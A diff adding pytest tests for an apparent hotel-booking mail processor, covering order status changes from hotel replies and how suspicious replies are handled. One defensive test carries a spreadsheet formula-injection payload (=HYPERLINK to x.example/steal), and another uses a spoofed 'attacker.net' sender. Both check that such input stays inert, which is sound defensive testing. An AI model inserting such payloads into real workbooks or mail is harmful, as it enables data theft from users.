@@ -1,0 +1,137 @@
+"""Applying a hotel's answer: the state transitions of product.md, C5, C8, N1–N3, text never formula."""
+
+from __future__ import annotations
+
+from datetime import datetime
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+import openpyxl
+import pytest
+
+from hoteldesk.automations.context import open_context
+from hoteldesk.inbox_watchers.apply import plan_reply, queue_plan
+from hoteldesk.inbox_watchers.mailroom import process_mail
+from hoteldesk.workbooks.pending import flush_pending
+from tests.inbox_watchers import mailkit as K
+
+AT = datetime(2026, 11, 26, 10, 15, 30, tzinfo=ZoneInfo("Asia/Shanghai"))
+NO = "HD20261126-0001"
+
+
+@pytest.mark.parametrize(
+    ("kind", "before", "after"),
+    [
+        ("confirmed", "已发", "已确认"),
+        ("confirmed", "变更待确认", "已确认"),
+        ("modified", "变更待确认", "已确认"),
+        ("full", "已发", "满房"),
+        ("denied", "已发", "拒绝"),
+        ("cancelled", "取消待确认", "已取消"),
+        ("cancelled", "取消", "已取消"),
+        ("no-show", "已确认", "待核实"),
+    ],
+)
+def test_transitions(kind: str, before: str, after: str) -> None:
+    plan = plan_reply(kind, K.order(NO, before), received=AT, conf_no="CF1", cancel_no="CX9", reason="当日满房")
+    assert plan.verdict == "apply", plan.reason
+    assert plan.changes["status"] == after
+
+
+def test_confirmation_writes_number_and_time() -> None:
+    plan = plan_reply("confirmed", K.order(NO), received=AT, conf_no="CF889123")
+    assert plan.changes == {
+        "status": "已确认",
+        "hotel_conf_no": "CF889123",
+        "confirmed_at": datetime(2026, 11, 26, 10, 15, 30),
+    }
+
+
+def test_c5_full_writes_reason_and_alternatives_in_remarks() -> None:
+    order = K.order(NO, remarks="无烟房")
+    plan = plan_reply(
+        "full", order, received=AT, reason="12月1日客满", alternatives=["BJJL 北京金陵 (朝阳, 4★) 标准间 ¥650 剩3间"]
+    )
+    assert plan.changes["status"] == "满房"
+    assert (
+        plan.changes["remarks"]
+        == "无烟房；【满房 2026-11-26 10:15】12月1日客满；可替代：BJJL 北京金陵 (朝阳, 4★) 标准间 ¥650 剩3间"
+    )
+
+
+def test_cancellation_writes_cancel_number() -> None:
+    plan = plan_reply("cancelled", K.order(NO, "取消待确认"), received=AT, cancel_no="CXL-5531")
+    assert plan.changes == {"status": "已取消", "cancel_no": "CXL-5531"}
+
+
+def test_n1_no_show_goes_unverified_with_the_hotels_report() -> None:
+    plan = plan_reply("no-show", K.order(NO, "已确认"), received=AT, reason="客人未到")
+    assert plan.changes["status"] == "待核实"
+    assert "酒店报NO-SHOW" in plan.changes["remarks"] and "N1–N3" in plan.changes["remarks"]
+
+
+@pytest.mark.parametrize(
+    ("kind", "status", "verdict"),
+    [
+        ("confirmed", "新订", "review"),  # never sent: a confirmation is suspicious
+        ("confirmed", "已取消", "review"),
+        ("cancelled", "已发", "review"),  # we asked for no cancellation
+        ("full", "已确认", "review"),
+        ("no-show", "已发", "review"),
+        ("unknown", "已发", "review"),
+        ("cancelled", "已取消", "ignore"),
+    ],
+)
+def test_replies_that_do_not_fit_go_to_review(kind: str, status: str, verdict: str) -> None:
+    assert plan_reply(kind, K.order(NO, status), received=AT, conf_no="CF1").verdict == verdict
+
+
+def test_second_confirmation_same_number_is_ignored_other_number_reviewed() -> None:
+    done = K.order(NO, "已确认", hotel_conf_no="CF1")
+    assert plan_reply("confirmed", done, received=AT, conf_no="CF1").verdict == "ignore"
+    other = plan_reply("confirmed", done, received=AT, conf_no="CF2")
+    assert other.verdict == "review" and "CF1" in other.reason and "CF2" in other.reason
+
+
+def test_confirmation_without_number_goes_to_review() -> None:
+    assert plan_reply("confirmed", K.order(NO), received=AT).verdict == "review"
+
+
+def test_values_from_mail_are_text_never_formulas(drive: Path) -> None:
+    """A value that looks like a formula lands as a text cell (architecture: data, never a formula)."""
+    evil = '=HYPERLINK("http://x.example/steal","CF1")'
+    with open_context(drive) as ctx:
+        K.write_drive(ctx.layout, [K.order(NO)])
+        plan = plan_reply("confirmed", K.order(NO), received=AT, conf_no=evil + "\x07")
+        assert plan.changes["hotel_conf_no"] == evil  # control characters stripped, nothing else
+        assert queue_plan(ctx, plan) == 3
+        report = flush_pending(ctx)
+        assert (report.applied, report.failed) == (3, 0)
+    ws = openpyxl.load_workbook(drive / "workbooks/Bookings.xlsx").worksheets[0]
+    header = [c.value for c in ws[1]]
+    cell = ws.cell(row=2, column=header.index("确认号") + 1)
+    assert (cell.data_type, cell.value) == ("s", evil)
+
+
+def test_confirmation_end_to_end_sets_status_for_the_customer_letter(drive: Path) -> None:
+    """C8: the outbox sends the letter when status is 已确认 with the hotel's number — both are written."""
+    with open_context(drive) as ctx:
+        K.write_drive(ctx.layout, [K.order(NO), K.order("HD20261126-0002", "已发", guest="李雷")])
+        K.drop(ctx.layout, "1.eml", K.confirmation(NO, "CF889123"))
+        lines = process_mail(ctx)
+        assert lines[0] == "Mailroom: 1 applied, 1 filed, 0 sent to review, 0 ignored, 0 failed"
+    orders = K.read_orders(K.DriveLayout(drive))
+    assert orders[NO]["status"] == "已确认" and orders[NO]["hotel_conf_no"] == "CF889123"
+    assert isinstance(orders[NO]["confirmed_at"], datetime)
+    assert orders["HD20261126-0002"]["status"] == "已发"
+
+
+def test_spoofed_sender_changes_nothing_and_goes_to_review(drive: Path) -> None:
+    with open_context(drive) as ctx:
+        K.write_drive(ctx.layout, [K.order(NO)])
+        K.drop(ctx.layout, "1.eml", K.confirmation(NO, "CF6666", sender="rsvn@huayuan-hotel.cn.attacker.net"))
+        lines = process_mail(ctx)
+        assert lines[0] == "Mailroom: 0 applied, 1 filed, 1 sent to review, 0 ignored, 0 failed"
+        [entry] = list(ctx.layout.mail_review.glob("*.json"))
+        assert "huayuan-hotel.cn.attacker.net" in entry.read_text(encoding="utf-8")
+    assert K.read_orders(K.DriveLayout(drive))[NO]["status"] == "已发"
